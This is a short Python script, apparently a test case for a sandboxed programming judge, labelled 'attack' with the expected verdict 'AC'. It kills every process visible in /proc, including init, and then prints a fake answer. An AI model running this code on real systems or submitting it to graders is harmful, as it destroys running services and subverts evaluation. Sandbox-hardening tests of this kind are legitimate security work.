# attack: kills its init and all processes it can see, from a runtime that has /proc
# verdict: AC
# after: nothing left
import os
import signal
import sys

for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGKILL)
            if int(name) != 1:
                print("ESCAPED: killed", name, file=sys.stderr)
        except OSError:
            pass
try:
    os.kill(1, signal.SIGKILL)
except OSError:
    pass
print("first\n1 5")
